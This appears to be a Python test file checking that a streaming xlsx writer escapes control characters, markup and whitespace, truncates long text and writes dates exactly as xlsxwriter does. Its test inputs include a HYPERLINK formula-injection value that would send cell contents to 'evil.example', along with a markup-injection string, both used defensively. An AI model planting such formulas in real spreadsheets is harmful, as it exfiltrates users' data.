"""Long sheets written a row at a time hold what xlsxwriter would have written cell by cell:
the same escapes of control characters, markup and whitespace, the same cut of overlong text,
the same date numbers; and a text that looks like rich-text markup stays text."""

from __future__ import annotations

import re
import zipfile
from datetime import datetime

import pytest
import xlsxwriter

from delegation_reports.reports.spreadsheet import MAX_TEXT, LongSheet, pack

TRICKY = [
    "lecture",
    "Mozilla/5.0 (X11; Linux x86_64) Thunderbird/115.0",
    "a & b < c > d \"e\" 'f'",
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "bell\x07 nul\x00 esc\x1b vt\x0b",
    "tab\tand\nnewline\rcarriage",
    "_x0041_ looks escaped, _X00ff_ too, _x12_ not",
    " leading space",
    "trailing space ",
    "\u00a0non-breaking edges\u00a0",
    "\u2003em space inside\u2003",
    "non-characters \ufffe \uffff",
    "émoji 🙂 et accents à côté",
    "x" * 40_000,
    "🙂" * 20_000,
    "a" * (MAX_TEXT - 1) + "🙂",
    "\x00",
    " ",
]


def _rows(xml: str) -> list[str]:
    return re.findall(r"<row r=\"\d+\"[^>]*>.*?</row>", xml, flags=re.S)[1:]  # after the header


def _sheet_xml(path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


def _book(path, options=None):
    return xlsxwriter.Workbook(str(path), {"constant_memory": True, **(options or {})})


def test_rows_are_the_xml_xlsxwriter_writes(tmp_path):
    rows = [
        [text, None, "", text[::-1], datetime(2026, 3, 29, 3, 30, 15, 250000)] for text in TRICKY
    ]
    rows.append(["seul", None, None, None, None])

    reference = _book(tmp_path / "reference.xlsx", {"strings_to_numbers": False})
    stamp = reference.add_format({"num_format": "dd/mm/yyyy hh:mm:ss"})
    sheet = reference.add_worksheet("Traces")
    sheet.write_string(0, 0, "en-tête")
    for r, cells in enumerate(rows, start=1):
        for c, value in enumerate(cells):
            if isinstance(value, datetime):
                sheet.write_datetime(r, c, value, stamp)
            elif value:
                sheet.write_string(r, c, value)
    reference.close()

    book = _book(tmp_path / "workbook.xlsx")
    stamp = book.add_format({"num_format": "dd/mm/yyyy hh:mm:ss"})
    long = LongSheet(
        book.add_worksheet("Traces"), tmp_path / "rows.xml", 5, {4}, stamp._get_xf_index()
    )
    long.sheet.write_string(0, 0, "en-tête")
    for cells in rows:
        long.add(cells)
    long.close()
    book.close()
    pack(tmp_path / "workbook.xlsx", tmp_path / "packed.xlsx", [long], book.worksheets())

    expected, written = (
        _sheet_xml(tmp_path / "reference.xlsx"),
        _sheet_xml(tmp_path / "packed.xlsx"),
    )
    assert _rows(written) == _rows(expected)
    assert len(_rows(written)) == len(rows)
    assert '<dimension ref="A1:E20"/>' in written
    # Everything around the rows is xlsxwriter's own.
    assert written.split("<sheetData>")[0] == expected.split("<sheetData>")[0]


def test_text_that_looks_like_rich_text_markup_stays_text(tmp_path):
    book = _book(tmp_path / "workbook.xlsx")
    long = LongSheet(book.add_worksheet("Traces"), tmp_path / "rows.xml", 1, set(), 0)
    long.sheet.write_string(0, 0, "en-tête")
    long.add(["<r><t>injecté</t></r>"])
    long.close()
    book.close()
    pack(tmp_path / "workbook.xlsx", tmp_path / "packed.xlsx", [long], book.worksheets())
    row = _rows(_sheet_xml(tmp_path / "packed.xlsx"))[0]
    assert "&lt;r&gt;&lt;t&gt;injecté&lt;/t&gt;&lt;/r&gt;" in row
    assert "<r>" not in row


def test_a_sheet_without_its_data_is_refused(tmp_path):
    book = _book(tmp_path / "workbook.xlsx")
    long = LongSheet(book.add_worksheet("Traces"), tmp_path / "rows.xml", 1, set(), 0)
    long.close()
    book.close()  # no cell at all: xlsxwriter writes an empty <sheetData/>
    with pytest.raises(ValueError, match="no sheet data"):
        pack(tmp_path / "workbook.xlsx", tmp_path / "packed.xlsx", [long], book.worksheets())
